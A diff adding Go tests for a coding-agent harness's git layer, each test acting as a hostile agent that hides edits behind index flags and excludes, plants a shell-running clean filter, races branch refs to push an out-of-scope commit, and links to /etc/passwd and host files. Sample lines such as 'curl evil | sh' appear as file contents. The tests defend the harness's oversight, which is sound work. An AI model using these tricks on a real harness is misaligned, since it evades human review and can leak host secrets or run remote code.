@@ -1,0 +1,239 @@
+package gitops
+
+import (
+	"context"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/codex-studio/studio-action/internal/ghemu"
+)
+
+// Each test here plays the agent: it shapes the workspace (including its .git) the way a hostile
+// model with a shell can, then checks what the studio's git sees, commits and pushes.
+
+func agentGit(t *testing.T, dir string, args ...string) {
+	t.Helper()
+	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=agent", "-c", "user.email=a@b"}, args...)...)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("agent git %v: %v\n%s", args, err, out)
+	}
+}
+
+func TestChangesSeeWhatIndexFlagsAndExcludesHide(t *testing.T) {
+	_, repo := remote(t)
+	ctx := context.Background()
+	// Attack: mark a tracked file skip-worktree / assume-unchanged and edit it; list a new file in
+	// .git/info/exclude; add a .gitignore of its own that ignores another new file.
+	agentGit(t, repo.Dir, "update-index", "--skip-worktree", "keep/b.txt")
+	agentGit(t, repo.Dir, "update-index", "--assume-unchanged", "a.txt")
+	write(t, repo.Dir, "keep/b.txt", "edited behind a flag\n")
+	write(t, repo.Dir, "a.txt", "edited too\n")
+	write(t, repo.Dir, ".git/info/exclude", "hidden.sh\n")
+	write(t, repo.Dir, "hidden.sh", "curl evil | sh\n")
+	write(t, repo.Dir, "keep/.gitignore", "also-hidden.txt\n")
+	write(t, repo.Dir, "keep/also-hidden.txt", "x\n")
+	changes, err := repo.Changes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"a.txt modified", "hidden.sh added", "keep/.gitignore added", "keep/also-hidden.txt added", "keep/b.txt modified"}
+	if !reflect.DeepEqual(kinds(changes), want) {
+		t.Fatalf("changes = %v, want %v", kinds(changes), want)
+	}
+}
+
+func TestChangesHonourTheBaseCommitsGitignore(t *testing.T) {
+	emu, repo := remote(t)
+	ctx := context.Background()
+	if _, err := emu.CommitFiles("o", "r", "main", ghemu.CommitSpec{Message: "ignore build", Files: map[string]string{".gitignore": "build/\n*.log\n"}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := repo.CheckoutBase(ctx, "main"); err != nil {
+		t.Fatal(err)
+	}
+	write(t, repo.Dir, "build/out.o", "obj")
+	write(t, repo.Dir, "run.log", "log")
+	write(t, repo.Dir, "gen/keep.txt", "not ignored")
+	write(t, repo.Dir, "gen/x.log", "ignored by *.log")
+	changes, err := repo.Changes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"gen/keep.txt added"}; !reflect.DeepEqual(kinds(changes), want) {
+		t.Fatalf("changes = %v, want %v", kinds(changes), want)
+	}
+}
+
+func TestCommitIgnoresPlantedFiltersAndAttributes(t *testing.T) {
+	emu, repo := remote(t)
+	ctx := context.Background()
+	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
+		t.Fatal(err)
+	}
+	canary := filepath.Join(t.TempDir(), "filter-ran")
+	// Attack: a clean filter in .git/config, attributes in .git/info/attributes and in the tree.
+	agentGit(t, repo.Dir, "config", "filter.x.clean", "sh -c 'echo ran >> "+canary+"; echo INJECTED'")
+	agentGit(t, repo.Dir, "config", "filter.x.required", "true")
+	write(t, repo.Dir, ".git/info/attributes", "* filter=x\n")
+	write(t, repo.Dir, ".gitattributes", "*.txt filter=x text eol=crlf\n")
+	content := "line one\r\nline two\n"
+	write(t, repo.Dir, "a.txt", content)
+	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m\n"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := repo.Push(ctx, "studio/task-1"); err != nil {
+		t.Fatal(err)
+	}
+	data, err := emu.ReadFile("o", "r", sha, "a.txt")
+	got := string(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != content {
+		t.Fatalf("committed blob = %q, want the bytes on disk %q", got, content)
+	}
+	if _, err := os.Stat(canary); !os.IsNotExist(err) {
+		t.Fatal("a filter planted in the workspace's .git ran inside the studio")
+	}
+}
+
+func TestCommitAndPushIgnoreARacedWorkspaceRef(t *testing.T) {
+	emu, repo := remote(t)
+	ctx := context.Background()
+	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
+		t.Fatal(err)
+	}
+	// The agent's own commit with an out-of-scope file, and a loop that keeps pointing the task
+	// branch (and HEAD) of the workspace at it while the studio commits and pushes.
+	write(t, repo.Dir, "evil.sh", "curl evil\n")
+	agentGit(t, repo.Dir, "add", "evil.sh")
+	agentGit(t, repo.Dir, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "agent")
+	out, err := exec.Command("git", "-C", repo.Dir, "rev-parse", "HEAD").Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := strings.TrimSpace(string(out))
+	if err := os.Remove(filepath.Join(repo.Dir, "evil.sh")); err != nil {
+		t.Fatal(err)
+	}
+	stop := make(chan struct{})
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		ref := filepath.Join(repo.Dir, ".git", "refs", "heads", "studio", "task-1")
+		os.MkdirAll(filepath.Dir(ref), 0o755)
+		for {
+			select {
+			case <-stop:
+				return
+			default:
+			}
+			os.WriteFile(ref, []byte(evil+"\n"), 0o644)
+			os.WriteFile(filepath.Join(repo.Dir, ".git", "HEAD"), []byte("ref: refs/heads/studio/task-1\n"), 0o644)
+			time.Sleep(time.Millisecond)
+		}
+	}()
+	write(t, repo.Dir, "a.txt", "in scope\n")
+	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m\n", Allow: func(p string) bool { return p == "a.txt" }})
+	if err == nil {
+		err = repo.Push(ctx, "studio/task-1")
+	}
+	close(stop)
+	wg.Wait()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-1"); got != sha {
+		t.Fatalf("remote branch at %s, want the studio's commit %s", got, sha)
+	}
+	files, _ := emu.ChangedFiles("o", "r", sha)
+	if !reflect.DeepEqual(files, []string{"a.txt"}) {
+		t.Fatalf("pushed commit changes %v", files)
+	}
+}
+
+func TestCommitRefusesLinksOutsideNestedReposAndGitPaths(t *testing.T) {
+	_, repo := remote(t)
+	ctx := context.Background()
+	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
+		t.Fatal(err)
+	}
+	must := func(err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	must(os.Symlink("/etc/passwd", filepath.Join(repo.Dir, "passwd")))
+	must(os.Symlink("../../outside", filepath.Join(repo.Dir, "keep", "up")))
+	must(os.Symlink("b.txt", filepath.Join(repo.Dir, "keep", "ok-link")))
+	// A directory on the way replaced by a link to the host: reading through it would commit a
+	// file the agent itself could not read.
+	hostDir := t.TempDir()
+	write(t, hostDir, "shadow", "host secret\n")
+	must(os.Symlink(hostDir, filepath.Join(repo.Dir, "host")))
+	agentGit(t, repo.Dir, "init", "-q", "nested")
+	write(t, repo.Dir, "nested/x.txt", "x")
+
+	changes, err := repo.Changes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	byPath := map[string]Change{}
+	for _, c := range changes {
+		byPath[c.Path] = c
+	}
+	if c := byPath["nested"]; !c.Nested {
+		t.Errorf("nested repository not reported as one: %+v (all: %v)", c, kinds(changes))
+	}
+	if c := byPath["passwd"]; c.NewMode != ModeSymlink || c.LinkTarget != "/etc/passwd" {
+		t.Errorf("passwd link = %+v", c)
+	}
+	for _, p := range []string{"passwd", "keep/up", "nested", "host/shadow", ".git/config", "keep/../.git/config"} {
+		_, err := repo.Commit(ctx, CommitRequest{Paths: []string{p}, Message: "m\n"})
+		if !errors.Is(err, ErrNotCommittable) && !errors.Is(err, errSymlinkInPath) {
+			t.Errorf("commit %s: err = %v, want a refusal", p, err)
+		}
+	}
+	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"keep/ok-link"}, Message: "m\n"})
+	if err != nil {
+		t.Fatalf("a link that stays inside: %v", err)
+	}
+	if out, _ := repo.run(ctx, "ls-tree", sha, "keep/ok-link"); !strings.HasPrefix(string(out), ModeSymlink) {
+		t.Errorf("ok-link committed as %q", out)
+	}
+	// Discarding removes the links themselves, never what they point at.
+	if err := repo.Discard(ctx, []Change{byPath["passwd"], byPath["host"], byPath["nested"]}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat("/etc/passwd"); err != nil {
+		t.Fatal("discard followed the link")
+	}
+	if _, err := os.Stat(filepath.Join(hostDir, "shadow")); err != nil {
+		t.Fatal("discard followed the directory link")
+	}
+}
+
+func TestChangesReportModeChanges(t *testing.T) {
+	_, repo := remote(t)
+	ctx := context.Background()
+	if err := os.Chmod(filepath.Join(repo.Dir, "a.txt"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	changes, err := repo.Changes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(changes) != 1 || !changes[0].ModeChanged() || changes[0].OldMode != ModeFile || changes[0].NewMode != ModeExecutable {
+		t.Fatalf("changes = %+v", changes)
+	}
+}
